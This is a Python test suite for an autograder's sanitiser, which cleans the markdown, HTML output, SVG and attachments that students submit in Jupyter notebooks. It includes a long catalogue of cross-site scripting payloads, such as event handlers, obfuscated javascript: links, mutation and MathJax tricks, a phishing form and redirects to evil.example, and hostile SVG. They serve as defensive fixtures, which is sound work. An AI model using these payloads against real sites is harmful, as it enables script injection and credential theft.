"""What reaches an instructor's browser: nothing that runs, and all of the mathematics and the pictures."""

import base64
import io
import re

import matplotlib.pyplot as plt
import nbformat
import numpy as np
import pytest
from hypothesis import given
from hypothesis import strategies as st
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from autograder import sanitise

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

HONEST = {
    "mathematics with a comparison": "For $a<b$ and $x < y$, $$\\sum_{i<n} x_i \\le \\frac{1}{2}$$ holds.",
    "an environment": "\\begin{align}\nu &= x - \\lambda \\\\\n &< 3\n\\end{align}",
    "code with a tag in it": "Write `List<int>` or\n\n```python\nif a < b:\n    print('<b>')\n```\n",
    "emphasis and a list": "# Title\n\n* **one**\n* _two_\n\n1. three\n\n- [x] done\n- [ ] not yet\n",
    "a table": "| a | b |\n|---|:-:|\n| 1 | 2 |\n",
    "links": "[paper](https://arxiv.org/abs/1711.05101?x=1&y=2) and <https://example.org/a> and [mail](mailto:a@b.c)",
    "a picture in the text": f"![plot](data:image/png;base64,{PIXEL})",
    "a picture as html": f'<img src="data:image/png;base64,{PIXEL}" alt="plot" width="300">',
    "a file": "![plot](plots/loss.png)",
    "harmless html": "<b>b</b>, x<sub>1</sub><br>\n<details><summary>m</summary></details>\n<font color='red'>r</font>",
    "html with a style": '<div style="text-align: center; color: #333">centred</div>',
    "a quotation": "> quoted > text\n\nand a < b, b > c, 1 <2, R&D",
    "brackets": "The interval [0, 1] and x[i]: \\lambda of it; see [1]: it is (2).",
}

HOSTILE = {
    "img onerror": "<img src=x onerror=\"document.title='HIT'\">",
    "img onerror without quotes": "<img/src=x/onerror=document.title='HIT'>",
    "upper case": "<IMG SRC=x OnErRoR=document.title='HIT'>",
    "script": "<script>document.title='HIT'</script>",
    "script over lines": "<script\n>\ndocument.title='HIT'\n</script\n>",
    "svg onload": "<svg onload=document.title='HIT'>",
    "svg script": "<svg><script>document.title='HIT'</script></svg>",
    "iframe": "<iframe src=\"javascript:parent.document.title='HIT'\"></iframe>",
    "iframe srcdoc": "<iframe srcdoc=\"<script>parent.document.title='HIT'</script>\"></iframe>",
    "math namespace confusion": "<math><mtext><table><mglyph><style><img src=x onerror=document.title='HIT'>",
    "comment confusion": "<!--><img src=x onerror=document.title='HIT'> -->",
    "noscript confusion": "<noscript><p title=\"</noscript><img src=x onerror=document.title='HIT'>\">",
    "unclosed tag": "<img src=x onerror=document.title='HIT' ",
    "unknown element": "<x onmouseover=document.title='HIT' style=display:block>move here</x>",
    "autofocus": "<b tabindex=1 autofocus onfocus=document.title='HIT'>b</b>",
    "details ontoggle": "<details open ontoggle=document.title='HIT'>x</details>",
    "mermaid fence": "```mermaid\n<img src=x onerror=document.title='HIT'>\n```",
    "mermaid tilde fence": "~~~mermaid x\n<script>document.title='HIT'</script>\n~~~",
    "link": "[click](javascript:document.title='HIT')",
    "link with an entity": "[click](java&#115;cript:document.title='HIT')",
    "link with a named entity": "[click](javascript&colon;document.title='HIT')",
    "link in angle brackets": "[click](< javascript:document.title='HIT'>)",
    "link by reference": "[click][1]\n\n[1]: javascript:document.title='HIT'",
    "link by reference on the next line": "[click][1]\n\n[1]:\n   javascript:document.title='HIT'",
    "link with a tab": "[click](java\tscript:document.title='HIT')",
    "automatic link": "<javascript:document.title='HIT'>",
    "data page": "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript": "[click](vbscript:x)",
    "html link": "<a href=\"javascript:document.title='HIT'\">click</a>",
    "html link with an entity": "<a href=\"&#106;avascript:document.title='HIT'\">click</a>",
    "form": '<form action="https://evil.example"><input name=password><button>log in</button></form>',
    "base": '<base href="https://evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "style element": "<style>.score{display:none}</style>",
    "page laid over": '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white">log in</div>',
    "Bootstrap's fixed bar": '<div class="navbar-fixed-top">log in</div>',
    "formgrader's own id": '<div id="soft_threshold" class="nbgrader_cell">x</div>',
    "link inside mathematics": "$\\href{javascript:document.title='HIT'}{x}$",
    "link inside mathematics, by entity": "\\$&#92;href{javascript:document.title='HIT'}{x}\\$",
    "style inside mathematics": "$\\style{position:fixed;top:0}{x}$",
    "link by a token of mathematics": "$\\mmlToken{mi}[href=\"javascript:document.title='HIT'\"]{x}$",
    "page laid over by mathematics": "$\\bbox[position:fixed;top:0]{x}$",
    "backslashes before": "$\\\\href{javascript:document.title='HIT'}{x}$",
    "picture from elsewhere": "![x](https://evil.example/pixel.png)",
    "picture from elsewhere as html": '<img src="//evil.example/pixel.png">',
    "picture of formgrader": "![x](/formgrader/api/x)",
    "missing attachment": "![x](attachment:none.png)",
    "deep": "<b>" * 3000,
    "long": "<" * 30_000,
}


def dangers(html):
    """What a browser would do with this page that an instructor did not ask for."""
    found = sanitise._strict.clean(html) != sanitise._lenient.clean(html)
    tags = {tag.lower().strip("/") for tag in re.findall(r"<([^\s<>]*)", html)}
    return found, tags - sanitise.TAGS, re.findall(r"\\(?:href|style|class|cssId|mmlToken|bbox)", html)


@pytest.mark.parametrize("source", HONEST.values(), ids=HONEST.keys())
def test_honest_markdown_is_left_as_it_is(source):
    assert sanitise.markdown(source) == source


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_markdown_renders_to_nothing_dangerous(source):
    cleaned = sanitise.markdown(source)
    assert dangers(markdown2html_mistune(cleaned)) == (False, set(), [])


@pytest.mark.parametrize("hostile", [HOSTILE[name] for name in HOSTILE if name not in ("deep", "long")])
def test_mathematics_and_pictures_beside_it_stay(hostile):
    honest = f"$$a<b$$\n\n![plot](data:image/png;base64,{PIXEL})\n\n"
    cleaned = sanitise.markdown(honest + hostile)
    assert PIXEL in cleaned
    assert "$$a<b$$" in cleaned


def test_an_attachment_is_kept_if_it_is_a_picture():
    bundle = {"a.png": {"image/png": PIXEL}, "b.png": {"image/png": base64.b64encode(b"<html>").decode()}}
    kept = sanitise.attachments({**bundle, '"><script>': {"image/png": PIXEL}, "c": {'image/png" onerror="x': PIXEL}})
    assert kept == {"a.png": {"image/png": PIXEL}}
    assert sanitise.markdown("![x](attachment:a.png)", kept) == "![x](attachment:a.png)"


@pytest.mark.parametrize("value", [None, 3, [], {"a": 3}, {"a": {"image/png": 3}}, {"a": {"image/png": "€"}}])
def test_attachments_of_any_shape(value):
    assert sanitise.attachments(value) == {}


def drawn(kind):
    figure, axes = plt.subplots(figsize=(3, 2))
    axes.plot(np.arange(5), np.arange(5) ** 2, label="$x^2$")
    axes.scatter([1, 2], [3, 4])
    axes.imshow(np.eye(3), extent=(0, 1, 0, 1))
    axes.legend()
    file = io.BytesIO()
    figure.savefig(file, format=kind)
    plt.close(figure)
    return file.getvalue()


def test_a_plot_as_svg_keeps_its_shapes():
    picture = drawn("svg").decode()
    cleaned = sanitise.svg(picture)
    for tag in ("<path", "<use", "clip-path=", "<image", "xlink:href", "transform="):
        assert cleaned.count(tag) == picture.count(tag), tag
    assert "<style" not in cleaned
    import xml.etree.ElementTree as ElementTree

    ElementTree.fromstring(cleaned)


@pytest.mark.parametrize(
    "hostile",
    [
        '<svg xmlns="http://www.w3.org/2000/svg"><script>document.title="HIT"</script></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=1"/>',
        '<svg><a xlink:href="javascript:x"><text>t</text></a></svg>',
        '<svg><foreignObject><img src=x onerror="x"></foreignObject></svg>',
        '<svg><image href="https://evil.example/x.png"/></svg>',
        '<svg><use href="https://evil.example/x.svg#a"/></svg>',
        '<svg><animate attributeName="href" to="javascript:x"/><set attributeName="onload" to="x"/></svg>',
        '<svg><rect style="fill:url(https://evil.example/x)"/></svg>',
        '<svg><rect fill="url(https://evil.example/x)"/></svg>',
        '<!DOCTYPE svg [<!ENTITY x "y">]><svg><text>&x;</text></svg>',
    ],
)
def test_svg_loses_what_runs_or_loads(hostile):
    cleaned = sanitise.svg(hostile) or ""
    for word in ("script", "onload", "onerror", "evil", "foreignObject", "animate", "set ", "ENTITY"):
        assert word not in cleaned


def test_a_picture_is_what_it_says():
    png = base64.b64encode(drawn("png")).decode()
    assert sanitise.picture("image/png", png) == png
    assert sanitise.picture("image/jpeg", png) is None
    assert sanitise.picture("image/png", "not base64!") is None
    assert sanitise.picture("text/html", png) is None


def test_outputs_keep_what_people_look_at():
    table = '<table border="1" class="dataframe"><tr><td style="text-align: right">1</td></tr></table>'
    shown = sanitise.output(
        {
            "output_type": "execute_result",
            "execution_count": 3,
            "data": {"text/plain": "x", "text/html": table, "image/png": PIXEL, "text/latex": "$x$"},
            "metadata": {"isolated": True},
        }
    )
    assert shown["data"]["image/png"] == PIXEL
    assert "dataframe" in shown["data"]["text/html"]
    assert shown["metadata"] == {}


@pytest.mark.parametrize(
    "mime",
    ["application/javascript", "application/vnd.jupyter.widget-view+json", "application/x", "text/vnd.mermaid"],
)
def test_outputs_that_would_run_are_left_out(mime):
    assert sanitise.output({"output_type": "display_data", "data": {mime: "document.title='HIT'"}}) is None


@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE.keys())
def test_html_output_holds_nothing_dangerous(hostile):
    shown = sanitise.output({"output_type": "display_data", "data": {"text/html": hostile, "text/markdown": hostile}})
    assert dangers(shown["data"]["text/html"]) == (False, set(), [])
    assert dangers(markdown2html_mistune(shown["data"]["text/markdown"])) == (False, set(), [])


ANYTHING = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=5)),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=5), inner, max_size=3)),
    max_leaves=6,
)
KINDS = st.sampled_from(["stream", "error", "display_data", "execute_result"])


@given(st.one_of(ANYTHING, st.fixed_dictionaries(
    {"output_type": st.one_of(KINDS, ANYTHING)},
    optional=dict.fromkeys(("name", "text", "data", "traceback", "ename", "evalue", "execution_count"), ANYTHING),
)))  # fmt: skip
def test_outputs_of_any_shape_are_shown_as_a_notebook_may_have_them_or_not_at_all(value):
    """A submission can send what it likes in the place of its outputs."""
    shown = sanitise.output(value)
    if shown is not None:
        nbformat.validate(nbformat.from_dict(shown), ref="output", version=4, version_minor=5)


@pytest.mark.parametrize("function", [sanitise.html, sanitise.markdown], ids=["html", "markdown"])
@pytest.mark.parametrize("part", ["\\", "\\begin{a}", "\\ "], ids=["backslashes", "environments", "spaced"])
def test_no_text_is_searched_again_and_again(function, part):
    """Searched once from each of its places, half a million of these would take hours, and no budget counts them."""
    function("<b>" + part * (500_000 // len(part)))


def test_control_characters_of_both_kinds_are_no_text():
    assert sanitise.text("a\x1b[2Jb\x9b2Jc\x85") == "a\ufffd[2Jb\ufffd2Jc\ufffd"


def test_long_output_is_cut_as_nbgrader_cuts_it():
    shown = sanitise.output({"output_type": "stream", "name": "stdout", "text": "x\n" * 5000})
    assert shown["text"].count("\n") == 999
    assert shown["text"].endswith("... Output truncated ...")


@given(st.text(alphabet="<>ab/!-=\"'`[]()&;:#\\ \n\tjavscriptoned$|", max_size=60))
def test_no_markdown_gets_through(source):
    assert dangers(markdown2html_mistune(sanitise.markdown(source))) == (False, set(), [])


@given(st.text())
def test_text_can_always_be_written(value):
    sanitise.text(value).encode()
